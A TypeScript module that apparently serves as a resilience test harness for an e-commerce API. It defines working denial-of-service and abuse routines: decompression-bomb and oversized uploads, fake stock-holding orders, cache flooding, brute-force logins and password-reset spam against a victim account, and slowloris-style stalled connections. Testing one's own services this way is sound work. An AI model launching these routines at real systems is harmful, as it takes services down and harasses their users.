import { randomBytes } from 'node:crypto';
import { connect } from 'node:net';
import sharp from 'sharp';
import { type Client, formWith } from './client.ts';

export interface Target {
  url: string;
  localAddress: string;
  send: Client;
  slug: string;
  productId: string;
  /** Email address of another account. */
  victim: string;
}
/** @returns the status, or 0 when the connection broke */
export type Attack = (target: Target, round: number) => Promise<number>;

const attacker = (n: number) => ({
  name: `Attacker ${n}`,
  email: `attacker-${n}@example.com`,
  password: 'seventeen balls of yarn',
  phone: '90000 00000',
  location: 'Nowhere 1',
});
let token = '';

async function upload({ send, slug }: Target, file: Buffer): Promise<number> {
  if (!token) {
    await send('/api/v1/user/signup', { method: 'POST', json: attacker(0) });
    token = JSON.parse((await send('/api/v1/user/login', { method: 'POST', json: attacker(0) })).text).token ?? '';
  }
  const form = formWith({ rating: '1', comment: 'Bad.' }, file);
  return (await send(`/api/v1/product/products/${slug}/reviews`, { method: 'POST', token, ...form })).status;
}

const noise = randomBytes(10 * 1024 * 1024 - 1_000);
/** 100 kB that decode to 400 MB. */
const bomb = sharp({ create: { width: 10_000, height: 10_000, channels: 4, background: '#fff' } })
  .png({ progressive: true, compressionLevel: 9 })
  .toBuffer();
const smallBomb = sharp({ create: { width: 3_400, height: 3_400, channels: 4, background: '#fff' } })
  .png({ progressive: true, compressionLevel: 9 })
  .toBuffer();

export const attacks: Record<string, Attack> = {
  'uploads of 10 MB': (target) => upload(target, noise),
  'decompression bombs': async (target, round) => upload(target, await (round % 2 ? bomb : smallBomb)),
  holds: async ({ send, productId }, round) => {
    const delivery = {
      name: 'Attacker',
      phone: '90000 00000',
      email: `hold-${round}@example.com`,
      address: 'Nowhere 2',
    };
    const json = { amount: 25_000 * 9, product: { _id: productId, quantity: 9 }, delivery };
    return (await send('/api/v1/product/orders', { method: 'POST', json })).status;
  },
  'invented cache keys': async ({ send, slug }, round) => {
    const word = `${round}-${randomBytes(6).toString('hex')}`;
    const json = {
      checked: [],
      radio: [],
      page: 1 + (round % 9_000),
      limit: 1,
      invented: word.repeat(round % 3 ? 20 : 2_000),
    };
    await send('/api/v1/product/product-filters', { method: 'POST', json });
    await send(`/product/${slug}?invented=${word.repeat(60)}`);
    return (await send(`/api/v1/product/search/${word}`)).status;
  },
  logins: async ({ send, victim }, round) =>
    (await send('/api/v1/user/login', { method: 'POST', json: { email: victim, password: `wrong ${round}` } })).status,
  'sign-ups and emails': async ({ send, victim }, round) => {
    await send('/api/v1/user/signup', { method: 'POST', json: attacker(round + 1) });
    return (await send('/api/v1/user/forgetpassword', { method: 'POST', json: { email: victim } })).status;
  },
  'unknown paths': async ({ send }, round) => (await send(`/${randomBytes(4).toString('hex')}/${round}`)).status,
  'page data': async ({ send, slug }, round) =>
    (await send(`/product/${slug}${round % 2 ? '' : round}.data?x=${round}`)).status,
  'headers byte by byte': (target) => holdSocket(target, `GET /${'x'.repeat(500)} HTTP/1.1\r\nHost: a\r\n`),
  'silent connections': (target) => holdSocket(target, ''),
  'unfinished bodies': (target) =>
    holdSocket(
      target,
      '',
      'POST /api/v1/user/login HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 400000\r\n\r\n{',
    ),
  'large bodies that stall': (target) =>
    holdSocket(
      target,
      '',
      `POST /api/v1/personalisation/photos HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 2051000\r\n\r\n{"photo":"${'A'.repeat(2_050_000)}`,
    ),
};

/** Holds a connection for up to 20 seconds and writes a byte of `slowly` every 100 ms. */
function holdSocket({ url, localAddress }: Target, slowly: string, first = ''): Promise<number> {
  const { hostname, port } = new URL(url);
  return new Promise((done) => {
    const socket = connect({ host: hostname, port: Number(port), localAddress });
    let at = 0;
    if (first) socket.write(first);
    const writer = setInterval(() => slowly && socket.write(slowly[at++ % slowly.length] ?? 'x'), 100);
    const end = setTimeout(() => socket.destroy(), 20_000);
    socket.on('error', () => undefined);
    socket.resume();
    socket.on('close', () => {
      clearInterval(writer);
      clearTimeout(end);
      done(0);
    });
  });
}
